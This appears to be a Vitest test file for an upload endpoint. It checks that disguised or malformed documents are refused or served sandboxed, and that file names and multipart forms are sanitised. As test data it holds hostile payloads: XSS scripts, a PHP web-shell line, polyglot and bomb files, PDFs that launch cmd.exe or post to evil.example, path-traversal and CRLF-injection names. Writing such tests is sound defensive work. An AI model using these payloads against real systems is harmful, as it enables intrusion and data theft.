import { readdir } from 'node:fs/promises'
import { crc32, deflateSync, gzipSync } from 'node:zlib'
import { expect, test } from 'vitest'
import * as contract from '../../../shared/people/verification.ts'
import { eicar } from '../../test/clamd.ts'
import { server } from '../../test/server.ts'
import { pdf, uploadFiles } from '../../test/uploads.ts'
import { aBusiness, anAdmin, api, orFail, request } from '../../test/world.ts'

/** Files that pretend to be documents. Each is refused, or comes back so that it cannot run. */

const script = '<script>alert(document.domain)</script>'
const html = Buffer.from(`<!doctype html><html><body>${script}</body></html>`)
const svg = Buffer.from(
  `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`,
)
const bytes = (...values: number[]) => Buffer.from(values)

/** A chunk of a PNG. */
function chunk(name: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4)
  length.writeUInt32BE(data.length)
  const body = Buffer.concat([Buffer.from(name), data])
  const sum = Buffer.alloc(4)
  sum.writeUInt32BE(crc32(body))
  return Buffer.concat([length, body, sum])
}

const pngMagic = bytes(0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a)

/** A PNG of zeros, which compress to almost nothing. */
function pngOf(width: number, height: number, extra: Buffer[] = []): Buffer {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(width, 0)
  header.writeUInt32BE(height, 4)
  header.set([1, 0], 8)
  const rows = deflateSync(Buffer.alloc(Math.min(height, 1_000) * (Math.ceil(width / 8) + 1)))
  const chunks = [chunk('IHDR', header), ...extra, chunk('IDAT', rows), chunk('IEND', bytes())]
  return Buffer.concat([pngMagic, ...chunks])
}

/** A JPEG as far as its dimensions. */
function jpegOf(width: number, height: number, comment = ''): Buffer {
  const text = Buffer.from(comment)
  const size = (n: number) => bytes(n >> 8, n & 0xff)
  return Buffer.concat([
    bytes(0xff, 0xd8),
    ...(comment ? [bytes(0xff, 0xfe), size(text.length + 2), text] : []),
    bytes(0xff, 0xc0, 0, 17, 8),
    size(height),
    size(width),
    bytes(3, 1, 0x22, 0, 2, 0x11, 1, 3, 0x11, 1, 0xff, 0xd9),
  ])
}

/** A ZIP with one stored file, and in a JAR it would be a class. */
function zipOf(name: string, content: Buffer): Buffer {
  const local = Buffer.alloc(30)
  local.writeUInt32LE(0x04034b50)
  local.writeUInt32LE(crc32(content), 14)
  local.writeUInt32LE(content.length, 18)
  local.writeUInt32LE(content.length, 22)
  local.writeUInt16LE(name.length, 26)
  return Buffer.concat([local, Buffer.from(name), content])
}

const pdfWith = (objects: string) => Buffer.from(`%PDF-1.7\n${objects}\ntrailer <</Root 1 0 R>>\n`)
const catalog = (action: string) => `1 0 obj <</Type/Catalog ${action}>> endobj`
const bomb = deflateSync(Buffer.alloc(8 * 1024 * 1024)).toString('latin1')

/** An image behind bytes that decoders skip after its first marker. */
const behind = (skipped: number[], image: Buffer) =>
  Buffer.concat([image.subarray(0, 2), Buffer.from(skipped), image.subarray(2)])

const refused: [what: string, name: string, content: Buffer][] = [
  ['a page', 'deed.pdf', html],
  ['a picture with scripts', 'deed.png', svg],
  ['a compressed picture with scripts', 'deed.png', gzipSync(svg)],
  [
    'a GIF that is a JAR as well',
    'deed.jpg',
    Buffer.concat([Buffer.from('GIF89a'), zipOf('A', html)]),
  ],
  ['a page before a PDF', 'deed.pdf', Buffer.concat([html, pdf])],
  ['PostScript', 'deed.pdf', Buffer.from('%!PS-Adobe-3.0\n(/etc/passwd) (r) file')],
  ['nothing', 'deed.pdf', bytes()],
  ['zeros', 'deed.pdf', Buffer.alloc(4_096)],
  ['the first byte of a PDF', 'deed.pdf', pdf.subarray(0, 1)],
  ['half a magic number', 'deed.png', pngMagic.subarray(0, 4)],
  ['a wrong magic number', 'deed.png', Buffer.concat([bytes(0x88), pngMagic.subarray(1)])],
  ['a program', 'deed.pdf', bytes(0x4d, 0x5a, 0x90, 0)],
  ['an ELF program', 'deed', bytes(0x7f, 0x45, 0x4c, 0x46)],
  ['a shell script', 'deed.jpg', Buffer.from('#!/bin/sh\nid\n')],
  ['a PHP script', 'deed.jpg', Buffer.from('<?php system($_GET[0]); ?>')],
  [
    'a web archive',
    'deed.pdf',
    Buffer.from('MIME-Version: 1.0\nContent-Type: multipart/related\n'),
  ],
  ['an archive', 'deed.pdf', zipOf('deed.pdf', pdf)],
  ['an archive with a way up', 'deed.pdf', zipOf('../../../etc/cron.d/deed', pdf)],
  ['an Office document', 'deed.pdf', zipOf('word/vbaProject.bin', html)],
  ['a TIFF', 'deed.jpg', bytes(0x49, 0x49, 0x2a, 0)],
  ['a WebP', 'deed.png', Buffer.from('RIFF\0\0\0\0WEBPVP8 ')],
  ['a font', 'deed.png', Buffer.from('wOF2')],
  ['EICAR', 'eicar.com', Buffer.from(eicar)],
  ['EICAR in an archive', 'deed.pdf', zipOf('eicar.com', Buffer.from(eicar))],
  ['a PNG of 4 gigapixels', 'deed.png', pngOf(65_535, 65_535)],
  ['a PNG as wide as a number can be', 'deed.png', pngOf(0x7fffffff, 1)],
  ['a JPEG of 4 gigapixels', 'deed.jpg', jpegOf(65_535, 65_535, script)],
  ['a JPEG with fill bytes', 'deed.jpg', behind([0xff], jpegOf(12_000, 12_000))],
  ['a JPEG with a bare marker', 'deed.jpg', behind([0xff, 0xd0], jpegOf(12_000, 12_000))],
]

test.each(refused)(
  '%s is refused with a sentence, and not stored',
  async (_what, name, content) => {
    const before = await stored()
    const { status, error } = await uploadFiles(await aBusiness(), [{ name, bytes: content }])
    expect(status).toBe(400)
    expect(error?.message).toMatch(
      /is not a PDF, JPEG or PNG file\.$|has more than 100 megapixels\.$/,
    )
    expect(await stored()).toBe(before)
  },
)

const stored = async () =>
  (await readdir(server().files, { recursive: true, withFileTypes: true })).filter((one) =>
    one.isFile(),
  ).length

const accepted: [what: string, content: Buffer, type: string][] = [
  ['a PDF that is a page as well', Buffer.concat([pdf, html]), 'application/pdf'],
  [
    'a PDF that is an archive as well',
    Buffer.concat([pdf, zipOf('A.class', html)]),
    'application/pdf',
  ],
  [
    'a PDF with a script',
    pdfWith(catalog('/OpenAction<</S/JavaScript/JS(app.alert(1))>>')),
    'application/pdf',
  ],
  [
    'a PDF that starts a program',
    pdfWith(catalog('/OpenAction<</S/Launch/F(cmd.exe)>>')),
    'application/pdf',
  ],
  [
    'a PDF that posts its form',
    pdfWith(catalog('/AA<</O<</S/SubmitForm/F(//evil.example)>>>>')),
    'application/pdf',
  ],
  ['a PDF with an XFA form', pdfWith(catalog(`/AcroForm<</XFA(${script})>>`)), 'application/pdf'],
  ['an encrypted PDF', pdfWith(`${catalog('')} trailer <</Encrypt 2 0 R>>`), 'application/pdf'],
  [
    'a PDF that unpacks to 8 MB',
    pdfWith(`2 0 obj <</Filter/FlateDecode>> stream\n${bomb}\nendstream`),
    'application/pdf',
  ],
  ['a PDF whose objects are a circle', pdfWith('1 0 obj 1 0 R endobj'), 'application/pdf'],
  ['a PDF that ends in the middle', pdf.subarray(0, 9), 'application/pdf'],
  [
    'a PNG with a page in a comment',
    pngOf(8, 8, [chunk('tEXt', Buffer.from(`Comment\0${script}`))]),
    'image/png',
  ],
  [
    'a PNG with an archive behind it',
    Buffer.concat([pngOf(8, 8), zipOf('A.class', html)]),
    'image/png',
  ],
  ['a PDF behind empty lines', Buffer.concat([Buffer.from('\r\n\n'), pdf]), 'application/pdf'],
  [
    'a PDF behind a byte order mark',
    Buffer.concat([bytes(0xef, 0xbb, 0xbf), pdf]),
    'application/pdf',
  ],
  ['a PNG with a page behind it', Buffer.concat([pngOf(8, 8), html]), 'image/png'],
  ['a PNG that ends in the middle', pngOf(8, 8).subarray(0, 20), 'image/png'],
  [
    'a PNG with a wrong checksum',
    Buffer.concat([pngOf(8, 8).subarray(0, -1), bytes(0)]),
    'image/png',
  ],
  ['a JPEG with a page in a comment', jpegOf(8, 8, script), 'image/jpeg'],
  [
    'a JPEG with a script behind it',
    Buffer.concat([jpegOf(8, 8), Buffer.from('*/=alert(1)/*')]),
    'image/jpeg',
  ],
  ['a JPEG that ends in the middle', jpegOf(8, 8).subarray(0, 5), 'image/jpeg'],
]

/** Uploads a file and returns the answer to an admin who opens it. */
async function opened(name: string, content: Buffer) {
  const uploaded = await uploadFiles(await aBusiness(), [{ name, bytes: content }])
  const [document] = orFail(uploaded).documents
  const admin = await anAdmin()
  const params = { documentId: document!.id }
  const { url } = orFail(await api(admin, contract.createDocumentLink, { params }))
  const { status, headers } = await request(admin, 'GET', url)
  expect(status).toBe(200)
  return { fileName: document!.fileName, headers }
}

test.each(accepted)(
  '%s comes back as the picture or PDF that it is',
  async (_what, content, type) => {
    const { headers } = await opened('deed.html', content)
    expect(headers).toMatchObject({
      'content-type': type,
      'content-length': String(content.length),
      'x-content-type-options': 'nosniff',
      'content-security-policy': "default-src 'none'; sandbox",
      'cross-origin-resource-policy': 'same-origin',
      'cache-control': 'no-store',
    })
  },
)

const long = 'a'.repeat(300)
const emoji = '💣'.repeat(150)
// Forms write line breaks and quotes as %0D%0A and %22.
const names: [sent: string, kept: string][] = [
  ['deed.pdf', 'deed.pdf'],
  ['DEED.PDF', 'DEED.PDF'],
  ['scan.JPEG', 'scan.JPEG'],
  ['deed', 'deed.pdf'],
  ['deed.pdf.html', 'deed.pdf.html.pdf'],
  ['deed.pdf.exe', 'deed.pdf.exe.pdf'],
  ['deed.pdf.', 'deed.pdf..pdf'],
  ['deed.svg', 'deed.svg.pdf'],
  ['deed.pdf\0.html', 'deed.pdf.html.pdf'],
  ['deed.pdf;.html', 'deed.pdf;.html.pdf'],
  ['deed.pdf\r\nset-cookie: a=b', 'deed.pdf%0D%0Aset-cookie: a=b.pdf'],
  ['deed.pdf\u2028.js', 'deed.pdf\u2028.js.pdf'],
  ['\u202Efdp.exe', 'fdp.exe.pdf'],
  ['../../../../etc/passwd', 'passwd.pdf'],
  ['..\\..\\windows\\win.ini', 'win.ini.pdf'],
  ['/etc/cron.d/deed.pdf', 'deed.pdf'],
  ['C:\\deed.pdf', 'deed.pdf'],
  ['..', 'document.pdf'],
  ['.htaccess', '.htaccess.pdf'],
  ['.pdf', '.pdf'],
  [' ', 'document.pdf'],
  [`deed'%22"*.pdf`, `deed'%22%22*.pdf`],
  ['<img src=x onerror=alert(1)>.pdf', '<img src=x onerror=alert(1)>.pdf'],
  [`${long}.pdf`, `${'a'.repeat(116)}.pdf`],
  [`${long}.exe`, `${'a'.repeat(112)}.exe.pdf`],
  [`${emoji}.pdf`, `${'💣'.repeat(58)}.pdf`],
  [`${emoji}x`, `${'💣'.repeat(57)}x.pdf`],
  // One character of two parts, which looks otherwise without its first one.
  [`${'👍🏽'.repeat(60)}x`, `${'👍🏽'.repeat(28)}x.pdf`],
]

test('every name is a name of a document, whatever was sent', async () => {
  const sent = []
  for (const [name, kept] of names) {
    const { fileName, headers } = await opened(name, pdf)
    sent.push([name, fileName])
    const disposition = String(headers['content-disposition'])
    expect(disposition, name).toMatch(/^inline; filename\*=UTF-8''[\w.%~!-]+$/)
    expect(decodeURIComponent(disposition.split("''")[1]!)).toBe(kept)
  }
  expect(sent).toEqual(names)
})

test('a form cannot be a bomb', async () => {
  const business = await aBusiness()
  const before = await stored()
  const headers = { 'content-type': 'multipart/form-data; boundary=x' }
  const send = async (body: Buffer | string, more: Record<string, string> = {}) => {
    const answer = await request<unknown>(business, 'POST', '/api/verification', {
      body,
      headers: { ...headers, ...more },
    })
    expect(answer.error?.message).toMatch(/\w\.$/)
    return answer.status
  }
  const part = (disposition: string, content = 'x') =>
    `--x\r\ncontent-disposition: form-data; ${disposition}\r\n\r\n${content}\r\n`
  const file = part('name="documents"; filename="a.pdf"', pdf.toString())
  const many = (count: number, one: string) => `${one.repeat(count)}--x--\r\n`
  const statuses = {
    'a thousand fields': await send(many(1_000, part('name="type"'))),
    'a large field': await send(many(1, part('name="type"', 'y'.repeat(100_000)))),
    'a thousand files': await send(many(1_000, file)),
    'a part with large headers': await send(many(1, part(`name="${'z'.repeat(200_000)}"`))),
    'a part with many headers': await send(`--x\r\n${'a: b\r\n'.repeat(20_000)}\r\nx\r\n--x--\r\n`),
    'another prototype': await send(many(1, part('name="__proto__"') + file)),
    'a form in a form': await send(many(1, part('name="documents"', many(1, file)))),
    compressed: await send(gzipSync(many(1, file)), { 'content-encoding': 'gzip' }),
    'an endless boundary': await send('', {
      'content-type': `multipart/form-data; boundary=${'-'.repeat(9_000)}`,
    }),
    'no boundary': await send(file, { 'content-type': 'multipart/form-data' }),
  }
  for (const [what, status] of Object.entries(statuses)) {
    expect([what, [400, 413, 415].includes(status)]).toEqual([what, true])
  }
  expect(await stored()).toBe(before)
})
